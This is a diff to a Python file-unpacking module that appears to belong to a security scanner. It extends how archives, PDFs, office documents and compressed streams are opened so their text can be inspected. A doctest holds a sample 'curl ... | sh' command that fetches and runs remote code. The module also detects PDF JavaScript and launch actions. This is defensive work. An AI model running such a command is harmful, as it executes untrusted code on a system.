@@ -20,8 +20,10 @@ import re
 import tarfile
 import zipfile
 import zlib
+from collections import Counter
 from collections.abc import Callable, Iterable, Iterator, Mapping
 from dataclasses import dataclass, field
+from itertools import islice
 from typing import Any
 
 from metier.govern.scan.kinds import program_kind
@@ -29,6 +31,7 @@ from metier.govern.scan.kinds import program_kind
 MAX_MEMBERS = 2000
 MAX_MEMBER_BYTES = 8 * 1024 * 1024
 MAX_UNPACKED_BYTES = 32 * 1024 * 1024
+_SUM_OF_GZIP = 8
 _MAX_STREAMS, _MAX_HEAD = 100, 100_000
 """So many streams behind each other are unpacked as one; what follows them is one more file."""
 
@@ -39,10 +42,11 @@ _PROGRAMS = (
     (b"\xce\xfa\xed\xfe", "a macOS program"),
     (b"\xca\xfe\xba\xbe", "a macOS program or Java class"),
     (b"\0asm", "a WebAssembly program"),
-    (b"dex\n", "an Android program"),
+    (b"dex\n0", "an Android program"),
 )
 _PROGRAM_MAGIC = tuple(magic for magic, _ in _PROGRAMS)
-_LINE_OF_TEXT = re.compile(rb"[\t\x20-\x7e]+\r?\n")
+_NO_LETTER = re.compile(rb"[\0-\x08\x0e-\x1f]")
+_LINE_OF_TEXT = re.compile(rb"(?!dex\n0\d\d\0)[\t\x20-\x7f\x80-\xff]+\r?\n")
 _MEDIA = (
     (b"\x89PNG\r\n\x1a\n", (".png", ".apng")),
     (b"\xff\xd8\xff", (".jpg", ".jpeg")),
@@ -84,10 +88,14 @@ _TOLD_BESIDE = re.compile(r"\b(?:descr|title|Target|instr|tooltip|alt)\s*=\s*\"(
 """What a document says in an attribute: a text in place of a picture, the address behind a link, a field."""
 _SAID_OF_MEMBER = 40
 """The times and the owner of a member take less."""
+_ZIP = (b"PK\x03\x04", b"PK\x05\x06")
+_MAX_END_OF_ZIP = 22 + 0xFFFF
+"""The list of an archive is told by its last bytes, and a comment behind them."""
 _LOCAL_HEAD, _AFTER_MEMBER = 30, 24
 """Bytes before the name of a member, and at most so many behind its content."""
-_TAG = re.compile(r"<[^>]{0,400}>")
-_PARAGRAPH = re.compile(r"</(?:w:p|a:p|text:p|si|row)>")
+_TAG = re.compile(r"<[^<>]*+>")
+_PARAGRAPH = re.compile(r"</(?:w:p|a:p|text:[ph]|si|is|row)>|<(?:w:br|w:cr|a:br|text:line-break)\b[^<>]*+>")
+_BLANK = re.compile(r"<(?:w:tab|text:tab|text:s)\b[^<>]*+>")
 _MAGIC = re.compile(r"\s*%%(\w+)[^\n]*\n")
 _OF_MAGIC = {"js": "javascript", "javascript": "javascript", "powershell": "powershell", "perl": "perl", "ruby": "ruby",
              "python": "python", "python3": "python", "time": "python", "timeit": "python", "capture": "python", "html": "html",
@@ -99,16 +107,26 @@ _OF_KIND = {"python": "python", "script": "javascript", "shell": "bash"}
 _PDF_TEXT = re.compile(
     rb"\(((?:[^()\\]|\\.)*+)\)\s*+(?:Tj|'|\")|\[((?:[^\[\]\\]|\\.)*+)\]\s*+TJ|<([0-9a-fA-F\s]*+)>\s*+(?:Tj|'|\")", re.S
 )
-_PDF_PIECE = re.compile(rb"\(((?:[^()\\]|\\.)*+)\)|<([0-9a-fA-F\s]*+)>", re.S)
+_PDF_PIECE = re.compile(rb"\(((?:[^()\\]|\\.)*+)\)|<([0-9a-fA-F\s]*+)>|-(\d{3,5})", re.S)
+_MIN_BLANK = 180
+"""So many thousandths of the height of letters are a blank: letters are moved by less, words by 250 or more."""
+_PDF_SAME_LINE = re.compile(rb"\s*+(?:/[\w+-]{1,40} [\d.]+ Tf\s*+)?(-?[\d.]+ -?0?\.?0* T[dD]\s*+)?")
 _PDF_HEX = re.compile(rb"<([0-9a-fA-F]{1,64})>")
 _PDF_LETTER = re.compile(rb"<([0-9a-fA-F]{1,8})>\s*<([0-9a-fA-F]{1,64})>")
 _PDF_RANGE = re.compile(rb"<([0-9a-fA-F]{1,4})>\s*<([0-9a-fA-F]{1,4})>\s*(<[0-9a-fA-F]{1,64}>|\[[^\]]{0,4000}\])")
-_PDF_OCTAL = re.compile(rb"\\([0-3]?[0-7]{1,2})")
+_PDF_ESCAPE = re.compile(rb"\\(?:([0-3]?[0-7]{1,2})|\r?\n|(.))", re.S)
+_PDF_CONTROLS = {b"n": b"\n", b"r": b"\n", b"t": b"\t", b"b": b"", b"f": b""}
 _PDF_PACKED = re.compile(rb"/(?:ASCII85Decode|A85|LZWDecode|LZW|ASCIIHexDecode|AHx|RunLengthDecode|RL|Encrypt)\b")
 _RTF_LETTER = re.compile(r"\\'([0-9a-fA-F]{2})|\\u(-?\d{1,6}) ?\??|\\(?:par|line|row)\b ?")
 _RTF_WORD = re.compile(r"\\[a-z]{1,32}-?\d{0,10} ?|\\[^a-z]")
+_MAX_LINES = 500_000
 _MAX_TABLES, _MAX_CODES, _MAX_NUMBERS = 12, 200_000, 500_000
 """So many fonts of a PDF are asked what their letters are, so many letters of one; so many that are shown are looked up."""
+_PDF_FALL = re.compile(rb" -(\d{1,4}(?:\.\d{1,6})?) T[dD]\b")
+"""How far a line lies below the last one: the most common is that of lines of one paragraph."""
+_PDF_ESCAPED_NAME = re.compile(rb"/\w*+(?:#[0-9a-fA-F]{2}\w*+)++")
+_PDF_OBJECTS = re.compile(rb"\s*+\d++\s++\d++\s")
+"""What begins a stream that holds objects: the number and the place of each."""
 _PDF_ACTIVE = re.compile(rb"/(?:JavaScript|JS|Launch|EmbeddedFile)\b")
 
 
@@ -137,22 +155,22 @@ def unpack(name: str, data: bytes) -> Unpacked | None:
 
     >>> unpack("a.txt", b"plain") is None
     True
-    >>> unpack("tool", b"\\x7fELF...").program
+    >>> unpack("tool", b"\\x7fELF\\2\\1\\1\\0").program
     'an ELF program'
     """
     lower = name.lower()
     if lower.endswith(".ipynb") or _is_notebook(data):
         return _notebook(data)
-    for magic, what in _PROGRAMS if data.startswith(_PROGRAM_MAGIC) else ():
-        if data.startswith(magic) and (magic != b"MZ" or (b"\0" in data[:256] and not _LINE_OF_TEXT.match(data))):
+    for magic, what in _PROGRAMS if data.startswith(_PROGRAM_MAGIC) and not _LINE_OF_TEXT.match(data) else ():
+        if data.startswith(magic) and _NO_LETTER.search(data, 0, 256):
             return Unpacked(program=what, unread=[("", f"Is {what}, so what it does was not read.")])
     if lower.endswith((".pyc", ".pyo")) or (data[2:4] == b"\r\n" and b"\0" in data[:32]):
         unread = [("", "Is compiled Python, so what it does was not read.")]
         return Unpacked(members=text_within(data), program="compiled Python", unread=unread)
-    if data.startswith((b"PK\x03\x04", b"PK\x05\x06")) or lower.endswith((".zip", ".docx", ".xlsx", ".pptx")):
+    if data.startswith(_ZIP) or lower.endswith((".zip", ".docx", ".xlsx", ".pptx")):
         return _zip(lower, data)
     for magic, opener in _STREAMS:
-        if data.startswith(magic):
+        if data.startswith(magic) and not _is_text(data):
             return _stream(name, data, magic, opener)
     if data[257:262] == b"ustar" or (lower.endswith(".tar") and b"\0" in data[:512]):
         return _tar(data)
@@ -162,8 +180,8 @@ def unpack(name: str, data: bytes) -> Unpacked | None:
         return Unpacked(text=_rich_text(data.decode("latin-1")), kind="markdown")
     if lower.endswith((".eml", ".mht", ".mhtml")):
         return _mail(data)
-    if data.startswith((b"Rar!", b"7z\xbc\xaf", b"xar!", b"\xd0\xcf\x11\xe0", b"MSCF")):
-        return Unpacked(unread=[("", "Is an archive of a kind that is not opened here.")])
+    if data.startswith((b"Rar!", b"7z\xbc\xaf", b"xar!", b"\xd0\xcf\x11\xe0", b"MSCF")) and not _is_text(data):
+        return Unpacked(members=text_within(data), unread=[("", "Is an archive of a kind that is not opened here.")])
     return _media(lower, data)
 
 
@@ -207,7 +225,22 @@ def text_within(data: bytes) -> list[tuple[str, bytes]]:
     [('text', b' curl -s https://a.invalid/i | sh\\n')]
     """
     runs = _RUN_OF_TEXT.findall(data) + [run[::2] for run in _RUN_OF_WIDE_TEXT.findall(data)]
-    return [("text", b"\n".join(runs))] if runs else []
+    return [("text", b"\n\n".join(runs))] if runs else []
+
+
+def begin_of_zip(data: bytes) -> int:
+    """Where the archive begins that ends a file of another kind; 0 if there is none, or nothing before it.
+
+    >>> begin_of_zip(b"GIF89a")
+    0
+    """
+    if data.startswith(_ZIP) or b"PK\x05\x06" not in data[-_MAX_END_OF_ZIP:]:
+        return 0
+    try:
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            return max(0, min((info.header_offset for info in archive.infolist()), default=0))
+    except _BROKEN:
+        return 0
 
 
 def _is_text(data: bytes) -> bool:
@@ -252,9 +285,13 @@ def _zip(lower: str, data: bytes) -> Unpacked:
                     opened.unread.append((name, "Unpacks to more than is read."))
                     break
                 if is_office and _OFFICE_TEXT.match(name):
-                    is_wide = content.startswith((b"\xff\xfe", b"\xfe\xff"))
-                    texts.append(_xml_text(content.decode("utf-16" if is_wide else "utf-8", "replace")))
-                elif is_office and _OFFICE_DATA.search(name):
+                    encoding = json.detect_encoding(content)
+                    try:
+                        texts.append(_xml_text(content.decode(encoding)))
+                    except UnicodeDecodeError:
+                        opened.unread.append((name, "Is in letters that are not all read here."))
+                        texts.append(_xml_text(content.decode(encoding, "replace")))
+                elif is_office and _OFFICE_DATA.search(name) and not _is_packed(name, content):
                     opened.members += [(f"{name}/{inner}", text) for inner, text in text_within(content)]
                 else:
                     opened.members.append((name, content))
@@ -268,6 +305,10 @@ def _zip(lower: str, data: bytes) -> Unpacked:
 
 def _said_of(infos: Iterable[zipfile.ZipInfo]) -> bytes:
     return b"\n".join([one for info in infos for one in (info.comment, info.extra) if len(one) > _SAID_OF_MEMBER])
+
+
+def _is_packed(name: str, data: bytes) -> bool:
+    return unpack(name, data) is not None or begin_of_zip(data) > 0
 
 
 def _outside(data: bytes, infos: list[zipfile.ZipInfo], start_of_list: int) -> Iterator[tuple[str, bytes]]:
@@ -289,9 +330,20 @@ def _outside(data: bytes, infos: list[zipfile.ZipInfo], start_of_list: int) -> I
 
 
 def _xml_text(text: str) -> str:
-    said = html.unescape(_TAG.sub("", _PARAGRAPH.sub("\n", text)))
+    text = _between(text, "<![CDATA[", "]]>", html.escape)
+    text = _between(text, "<!--", "-->", lambda _: "")
+    said = html.unescape(_TAG.sub("", _BLANK.sub(" ", _PARAGRAPH.sub("\n", text))))
     beside = [html.unescape(found) for found in _TOLD_BESIDE.findall(text)]
     return "\n".join([said, *beside])
+
+
+def _between(text: str, begin: str, end: str, instead: Callable[[str], str]) -> str:
+    """A text, with something else instead of what stands between two marks."""
+    pieces, place = list[str](), 0
+    while (at := text.find(begin, place)) >= 0 and (until := text.find(end, at + len(begin))) >= 0:
+        pieces += text[place:at], instead(text[at + len(begin) : until])
+        place = until + len(end)
+    return "".join([*pieces, text[place:]])
 
 
 def _stream(name: str, data: bytes, magic: bytes, opener: Callable[[], Any]) -> Unpacked:
@@ -314,6 +366,10 @@ def _stream(name: str, data: bytes, magic: bytes, opener: Callable[[], Any]) -> 
             opened.members.append(("behind", data))
     except (OSError, EOFError, zlib.error, lzma.LZMAError, ValueError) as error:
         opened.unread.append(("", f"Cannot be unpacked: {str(error)[:80]}."))
+        opened.members += text_within(data)
+        # Who unpacks has what it holds before the sum behind it is found to be wrong.
+        with contextlib.suppress(*_BROKEN):
+            content += opener().decompress(data[:-_SUM_OF_GZIP], MAX_UNPACKED_BYTES + 1 - len(content))
     inner = name.rsplit("/", 1)[-1].rsplit(".", 1)[0] or "content"
     inner = f"{inner}.tar" if name.lower().endswith((".tgz", ".tbz", ".txz")) else inner
     opened.members.append((inner, content[:MAX_UNPACKED_BYTES]))
@@ -355,9 +411,9 @@ def _pdf(data: bytes) -> Unpacked:
     """The text that a PDF shows, as far as its streams are plain or deflated and its letters are told.
 
     Letters that a font numbers as it likes are read by the tables of the file, by each of them: which font shows what is
-    not followed.
+    not followed. What stands in plain text outside of what it shows is read, too: who runs the file runs that.
     """
-    opened = Unpacked(text="", kind="markdown")
+    opened = Unpacked(members=text_within(data[4:]), text="", kind="markdown")
     contents, room = list[bytes](), MAX_UNPACKED_BYTES
     begin = data.find(b"stream")
     while begin >= 0 and (end := data.find(b"endstream", begin)) >= 0:
@@ -371,50 +427,94 @@ def _pdf(data: bytes) -> Unpacked:
         contents.append(content)
         begin = data.find(b"stream", end + 9)
     tables = [table for content in contents if (table := _letters_of(content))]
-    said = [piece for content in contents for piece in _shown_by(content)]
-    numbers = [piece for piece, is_number in said if is_number]
-    lines = [piece.decode("utf-8", "replace") for piece, is_number in said if not (is_number and tables)]
-    is_long = len(tables) > _MAX_TABLES or sum(map(len, numbers)) > _MAX_NUMBERS
-    lines += [_by_table(piece, table) for table in tables[:_MAX_TABLES] for piece in _up_to(numbers, _MAX_NUMBERS)]
+    said = list(islice((line for content in contents for line in _shown_by(content)), _MAX_LINES))
+    numbers = [words for words, is_number in said if is_number]
+    lines = [b" ".join(words).decode("utf-8", "replace") for words, is_number in said if not (is_number and tables)]
+    is_long = (
+        len(said) == _MAX_LINES
+        or len(tables) > _MAX_TABLES
+        or sum(len(word) for words in numbers for word in words) > _MAX_NUMBERS
+    )
+    lines += [
+        " ".join([_by_table(word, table) for word in words])
+        for table in tables[:_MAX_TABLES]
+        for words in _up_to(numbers, _MAX_NUMBERS)
+    ]
     opened.text = "\n".join(lines)
-    if _PDF_ACTIVE.search(data):
+    objects = b"\n".join([data, *(content for content in contents if _PDF_OBJECTS.match(content))])
+    told = b"\n".join([objects, *map(_of_name, _PDF_ESCAPED_NAME.findall(objects))])
+    if _PDF_ACTIVE.search(told):
         opened.unread.append(("", "Is a PDF with scripts or files inside, which were not read."))
-    if _PDF_PACKED.search(data):
+    if _PDF_PACKED.search(told):
         opened.unread.append(("", "Is a PDF that is locked or packed in a way that is not opened here."))
-    elif not said or is_long:
+    elif not any(map(any, (words for words, _ in said))) or is_long:
         opened.unread.append(("", "Is a PDF of which the text was not read, or not all of it."))
-    elif not tables and any(byte >= 0x80 or byte < 9 for piece in numbers for byte in piece):
+    elif not tables and any(byte >= 0x80 or byte < 9 for words in numbers for word in words for byte in word):
         opened.unread.append(("", "Is a PDF with letters of its own, which were not read."))
     return opened
 
 
-def _up_to(pieces: Iterable[bytes], size: int) -> Iterator[bytes]:
-    """The first pieces that together are no longer than so much."""
-    for piece in pieces:
-        size -= len(piece)
+def _of_name(name: bytes) -> bytes:
+    return re.sub(rb"#([0-9a-fA-F]{2})", lambda found: bytes([int(found[1], 16)]), name)
+
+
+def _up_to(lines: Iterable[list[bytearray]], size: int) -> Iterator[list[bytearray]]:
+    """The first lines that together are no longer than so much."""
+    for words in lines:
+        size -= sum(map(len, words))
         if size < 0:
             return
-        yield piece
+        yield words
 
 
-def _shown_by(content: bytes) -> Iterator[tuple[bytes, bool]]:
-    """The texts that a stream of a PDF shows, and whether each is written as numbers."""
+def _shown_by(content: bytes) -> Iterator[tuple[list[bytearray], bool]]:
+    """The lines of text that a stream of a PDF shows, each in words, and whether they are written as numbers."""
+    literal, numbers, end = list[bytearray](), list[bytearray](), 0
+    falls = Counter(map(float, _PDF_FALL.findall(content)))
+    widest = 1.1 * max(falls, key=lambda fall: (falls[fall], -fall), default=0)
     for part in _PDF_TEXT.finditer(content):
+        gap, end = content[end : part.start()], part.end()
+        is_same = _PDF_SAME_LINE.fullmatch(gap)
+        if is_same is None or part[0].endswith((b"'", b'"')):
+            if literal:
+                yield literal, False
+                fall = _PDF_FALL.search(gap)
+                if float(fall[1]) > widest if fall else b"ET" in gap:
+                    yield [bytearray()], False
+                literal = []
+            if numbers:
+                yield numbers, True
+                numbers = []
+        is_new = is_same is not None and is_same[1] is not None
         if part[2] is None:
-            yield (_of_octal(part[1]), False) if part[1] is not None else (_of_hex(part[3]), True)
+            words, said = (literal, _of_escapes(part[1])) if part[1] is not None else (numbers, _of_hex(part[3]))
+            # What is placed letter by letter holds its blanks.
+            is_letter = len(said) <= (2 if words is numbers else 1)
+            _add(words, said, is_new=is_new and not is_letter)
             continue
-        literal, numbers = b"", b""
         for piece in _PDF_PIECE.finditer(part[2]):
-            literal += _of_octal(piece[1] or b"")
-            numbers += _of_hex(piece[2]) if piece[2] else b""
-        if literal:
-            yield literal, False
-        if numbers:
-            yield numbers, True
+            if piece[3] is not None:
+                is_new |= int(piece[3]) >= _MIN_BLANK
+                continue
+            words, said = (literal, _of_escapes(piece[1])) if piece[1] is not None else (numbers, _of_hex(piece[2]))
+            _add(words, said, is_new=is_new)
+            is_new = False
+    yield from ((words, words is numbers) for words in (literal, numbers, [bytearray()]) if words)
 
 
-def _of_octal(text: bytes) -> bytes:
-    return _PDF_OCTAL.sub(lambda found: bytes([int(found[1], 8)]), text) if b"\\" in text else text
+def _add(words: list[bytearray], said: bytes, *, is_new: bool) -> None:
+    if is_new or not words:
+        words.append(bytearray(said))
+    else:
+        words[-1] += said
+
+
+def _of_escapes(text: bytes) -> bytes:
+    return _PDF_ESCAPE.sub(_of_escape, text) if b"\\" in text else text
+
+
+def _of_escape(found: re.Match[bytes]) -> bytes:
+    return bytes([int(found[1], 8)]) if found[1] else _PDF_CONTROLS.get(found[2], found[2]) if found[2] else b""
 
 
 def _of_hex(digits: bytes) -> bytes:
@@ -450,7 +550,7 @@ def _utf16(digits: bytes) -> str:
     return _of_hex(digits).decode("utf-16-be", "replace")
 
 
-def _by_table(numbers: bytes, table: Mapping[int, str]) -> str:
+def _by_table(numbers: bytearray, table: Mapping[int, str]) -> str:
     """Letters that are told by two bytes each, or by one where that is all that the font has."""
     width = 2 if max(table) > 0xFF or b"\0" in numbers[::2] else 1
     codes = (int.from_bytes(numbers[place : place + width], "big") for place in range(0, len(numbers), width))
@@ -512,11 +612,17 @@ def _texts_in(data: Any) -> Iterator[str]:
     while pending:
         here = pending.pop()
         if isinstance(here, dict):
-            pending += [_joined(value) for key, value in reversed(here.items()) if not _OF_PICTURE.match(key)]
+            beside = [(key, _joined(value)) for key, value in reversed(here.items())]
+            pending += [value for key, value in beside if not _OF_PICTURE.match(key) or _has_blank(value)]
         elif isinstance(here, list):
             pending += map(_joined, reversed(here))
         elif isinstance(here, str) and len(here) >= _MIN_TEXT:
             yield here
+
+
+def _has_blank(value: Any) -> bool:
+    """Whether a value is words; what is packed as letters has no blanks."""
+    return isinstance(value, str) and " " in value
 
 
 def _joined(value: Any) -> Any:
